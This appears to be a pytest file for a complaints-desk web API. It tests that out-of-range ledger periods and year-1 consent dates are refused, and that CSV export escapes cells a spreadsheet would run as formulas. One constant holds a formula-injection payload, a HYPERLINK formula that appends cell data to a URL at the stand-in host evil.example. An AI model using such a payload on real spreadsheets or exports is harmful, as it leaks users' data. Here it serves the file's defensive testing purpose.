"""Issue 12 at the desk (R-UNRES-2): its ledger refuses periods outside 2000..2099 (the year 9999
overflowed into a 500), and its CSV neutralises cells a spreadsheet would run as formulas."""

from datetime import date

import pytest
from desk_calls import OFFICE, extend, hall_time, register

from web_api.csv_cells import read_with_headings

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'


@pytest.mark.parametrize(
    "period",
    ["from=0001-01-01&to=0001-01-31", "from=9999-12-01&to=9999-12-31", "from=2026-11-01&to=9999-12-31"],
)
def test_r_unres_2_a_ledger_period_at_the_ends_of_the_calendar_is_a_422(complaints_http, web_session, period):
    refused = web_session.get(f"/desk/ledger?{period}&format=csv", headers=OFFICE)
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["code"] == "validation_failed"
    assert "2099-12-31" in str(refused.json()["error"]["details"])


def test_r_unres_2_cells_typed_as_formulas_come_out_as_text_in_the_ledger_csv(complaints_http, web_session):
    complaints_http.clock.return_value = hall_time(date(2026, 11, 23))
    item = register(web_session, item=FORMULA, reason="+86 转 @办公室 -- 三次往返未办成")
    answer = web_session.get("/desk/ledger?from=2026-11-23&to=2026-11-23&format=csv", headers=OFFICE)
    assert answer.status_code == 200, answer.text
    _, [row] = read_with_headings(answer.content.decode("utf-8"))
    assert (row["item_no"], row["item"]) == (item["item_no"], "'" + FORMULA)
    assert row["at"].startswith("2026-11-23") and row["details"].startswith("{")


def test_r_unres_1_a_consent_given_in_the_year_1_is_a_422(complaints_http, web_session):
    complaints_http.clock.return_value = hall_time(date(2026, 11, 23))
    item = register(web_session)
    refused = extend(
        web_session, item["item_no"], consent={"given_at": "0001-01-01T00:00:00+08:00", "method": "phone"}
    )
    assert refused.status_code == 422, refused.text
    assert "2000-01-01" in str(refused.json()["error"]["details"])
